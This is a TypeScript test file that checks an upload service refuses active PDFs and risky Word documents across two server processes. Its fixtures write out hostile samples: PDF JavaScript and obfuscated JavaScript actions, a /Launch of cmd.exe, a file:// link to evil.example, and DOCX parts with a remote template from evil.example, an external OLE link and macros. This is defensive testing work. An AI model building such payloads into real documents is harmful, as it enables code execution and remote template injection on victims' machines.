import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeDocx, makePdf, makePdfOf, relationsPart } from '#domain/uploads/sample-files.fixture.ts'
import { uploadRefusals } from '#domain/uploads/upload-rules.ts'
import { accessTokenFor } from '#test/support/access-token.ts'
import { addPerson } from '#test/support/people.ts'
import { temporaryFolder } from '#test/support/server-process.ts'
import { type ServerPair, startServerPair } from '#test/support/single-server.ts'
import { uploadTo } from '#test/support/upload-client.ts'

let pair: ServerPair
let data: Awaited<ReturnType<typeof temporaryFolder>>
let token: string
beforeAll(async () => {
  data = await temporaryFolder()
  pair = await startServerPair({ DATA_DIR: data.path })
  const { subject } = await addPerson(pair.db, { email: 'robin@mail.example' })
  token = await accessTokenFor(pair.service, { subject })
})
afterAll(async () => {
  await pair.close()
  await data.remove()
})

const template = relationsPart(
  'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"',
)
const linkedObject = relationsPart(
  'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="file:///c:/a.xls" TargetMode="External"',
  'word/_rels/document.xml.rels',
)

describe('32: documents that act, sent to two server processes with one data folder', () => {
  it.each<[string, Buffer, keyof typeof uploadRefusals]>([
    ['a.pdf', makePdfOf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'), 'isActivePdf'],
    ['b.pdf', makePdfOf('<< /S /J#61vaScript /#4AS (1) >>', { packed: true }), 'isActivePdf'],
    ['c.pdf', makePdfOf('<< /S /Launch /F (cmd.exe) >>'), 'isActivePdf'],
    ['d.pdf', makePdfOf('<< /Type /EmbeddedFile >>', { packed: true }), 'isActivePdf'],
    ['h.pdf', makePdfOf('<< /OpenAction << /S /GoToR /F (a.pdf) >> >>', { packed: true }), 'isActivePdf'],
    ['i.pdf', makePdfOf('<< /S /URI /URI (file://evil.example/a) >>'), 'isActivePdf'],
    ['e.docx', makeDocx(template), 'hasObjects'],
    ['f.docx', makeDocx(linkedObject), 'hasObjects'],
    ['g.docx', makeDocx({ name: 'word/vbaProject.bin' }), 'hasMacros'],
  ])(
    '%s is refused with the whole batch, with a plain reason, and nothing is stored',
    async (name, content, refusal) => {
      const { status, body } = await uploadTo({ url: pair.next().url, token }, [
        { name: 'good.pdf', content: makePdf() },
        { name, content },
      ])
      expect(status).toBe(415)
      expect(body.fields).toEqual({ 'file.1': uploadRefusals[refusal] })
      expect(await pair.db.selectFrom('uploads').selectAll().execute()).toEqual([])
      expect(await readdir(join(data.path, 'uploads')).catch(() => [])).toEqual([])
    },
  )
})
